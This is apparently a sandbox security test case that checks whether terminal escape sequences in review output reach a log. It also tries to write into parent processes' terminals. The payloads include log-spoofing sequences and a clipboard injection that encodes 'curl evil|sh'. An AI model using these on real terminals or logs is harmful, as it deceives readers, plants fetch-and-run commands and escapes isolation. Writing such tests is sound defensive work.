import { type HostileCase, judge } from '../case.ts';
import { runInProcess, startedIn } from '../kit/in-process.ts';
import { publish } from '../kit/publish.ts';

/** Orders for a terminal, by what they would do to the reader of a log. */
const ORDERS: Readonly<Record<string, string>> = {
  'a title': '\u001b]0;passed\u0007',
  'the clipboard': '\u001b]52;c;Y3VybCBldmlsfHNo\u0007',
  'a link': '\u001b]8;;http://198.51.100.1/\u001b\\here\u001b]8;;\u001b\\',
  'lines that are erased': 'bad\u001b[2K\u001b[1Agood',
  'hidden words': '\u001b[8mnot to be seen\u001b[0m',
  'a device string': '\u001bP+q544e\u001b\\',
  'an order of eight bits': '\u009b2J\u009d0;passed\u009c',
  'words written over': 'bad\b\b\bgood',
};

/** Puts words into the terminal that the gate was started from: by descriptors, by the device, as if they were typed. */
const TYPIST = `
const fs = require('node:fs');
const say = (path) => { try { fs.writeSync(fs.openSync(path, fs.constants.O_WRONLY | fs.constants.O_NOCTTY | fs.constants.O_NONBLOCK), '\\x1b]0;said-to-the-terminal\\x07'); } catch {} };
const parentOf = (pid) => { try { return Number(/\\) . (\\d+)/.exec(fs.readFileSync('/proc/' + pid + '/stat', 'latin1'))[1]); } catch { return 1; } };
for (let pid = process.pid, steps = 0; steps < 3; steps++, pid = parentOf(pid))
  for (const number of [0, 1, 2]) say('/proc/' + pid + '/fd/' + number);
for (const path of ['/dev/tty', '/dev/console']) say(path);
let terminals = [];
try { terminals = fs.readdirSync('/dev/pts').filter((name) => name !== 'ptmx'); } catch {}
console.log('terminals: ' + terminals.length);`;

export const hostile: HostileCase = {
  number: 79,
  title: "Orders to a terminal: in the texts of a review, and straight into the gate's own",
  area: 'sandbox',
  lanes: ['userns'],
  async attack(place, defence) {
    const got: Record<string, string | null> = {};
    for (const [name, order] of Object.entries(ORDERS)) {
      const told = { findings: [{ title: order, message: order, category: order }], summary: order };
      const { stdout } = await publish(place, told, defence);
      got[name] = CONTROLS.test(stdout) ? 'stands in the log' : null;
    }
    const run = await runInProcess(place, defence, { source: TYPIST, wrap: IN_TERMINAL });
    const { out } = startedIn(run);
    const seen = Number(/terminals: (\d+)/u.exec(out)?.[1] ?? Number.NaN);
    if (Number.isNaN(seen)) throw new Error('The program did not speak.');
    return judge(defence, {
      ...got,
      "the gate's terminal": run.stdout.includes('said-to-the-terminal') ? 'was written to' : null,
      'any terminal': seen > 0 ? `${seen} are there` : null,
    });
  },
};

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/u;

/** A terminal of its own for the gate and for whatever it starts; `script` takes one text for a shell. */
const IN_TERMINAL = [
  'bash',
  '-c',
  'text=$(printf "%q " "$@"); exec script --quiet --return --command "exec $text" /dev/null < /dev/null',
  'terminal',
];
